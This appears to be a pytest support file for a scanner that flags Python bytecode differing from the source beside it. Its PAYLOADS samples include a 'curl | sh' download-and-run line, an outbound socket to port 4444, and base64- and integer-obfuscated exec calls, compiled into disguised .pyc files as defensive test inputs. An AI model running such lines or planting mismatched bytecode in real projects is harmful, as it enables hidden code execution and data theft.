"""Sources, and bytecode beside them that is honest or not. Our own sources are compiled, and nothing is run."""

from __future__ import annotations

import importlib.util
import io
import marshal
import os
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

import pitviper
from pitviper.config import Settings
from pitviper.model.finding import Finding
from pitviper.model.report import Report

CLEAN = "import sys\n\n\ndef total(a, b):\n    return a or b\n"
PAYLOADS = {
    "process": 'import os\nos.system("curl -s http://192.0.2.7/x | sh")\n',
    "network": "import socket\nsocket.create_connection(('192.0.2.7', 4444)).sendall(b'who')\n",
    "decoded": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\n",
    "integers": "exec(bytes([105, 109, 112, 111, 114, 116]))\n",
    "native": "import ctypes\nctypes.CDLL(None)\n",
}
TIME = 1_700_000_000
Files = dict[str, bytes]


def compiled(source: str, *, beside: str | None = None, flags: int = 0, time: int = TIME, level: int = 0) -> bytes:
    """A `.pyc` of `source` whose header names `beside`, or `source` itself."""
    text = (source if beside is None else beside).encode()
    head = importlib.util.source_hash(text) if flags else struct.pack("<II", time, len(text))
    code = compile(source, "build.py", "exec", dont_inherit=True, optimize=level)
    return importlib.util.MAGIC_NUMBER + struct.pack("<I", flags) + head + marshal.dumps(code)


def pyc(name: str) -> str:
    """Where the compiled form of the source `name` lies."""
    folder, _, file = name.rpartition("/")
    return f"{folder}/__pycache__/{file.removesuffix('.py')}.cpython-311.pyc".lstrip("/")


def pair(clean: str, other: str, name: str = "app/build.py", **header: int) -> Files:
    """A source, and bytecode of another beside it whose header fits."""
    return {name: clean.encode(), pyc(name): compiled(other, beside=clean, **header)}


def planted(folder: Path, files: Mapping[str, bytes]) -> None:
    """`files` in `folder`, all of the same time."""
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        os.utime(path, (TIME, TIME))


def zipped(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def tarred(files: Mapping[str, bytes], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]  # the mode is no literal
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working directory."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture
def scanned(folder: Path) -> Callable[..., Report]:
    """A function from files to the report on the folder that holds them."""

    def scan(files: Mapping[str, bytes], **settings: object) -> Report:
        planted(folder / "target", files)
        return pitviper.scan("target", settings=Settings(**{"jobs": 1, **settings})).report()  # type: ignore[arg-type]

    return scan


def told(report: Report) -> list[tuple[str, str, str, int | None]]:
    """Rule, severity, path and line of each finding."""
    return [(one.rule, one.severity.value, one.place.path, one.place.line) for one in report.findings]


def why(finding: Finding, name: str) -> list[str]:
    return [one.text for one in finding.evidence if one.name == name]
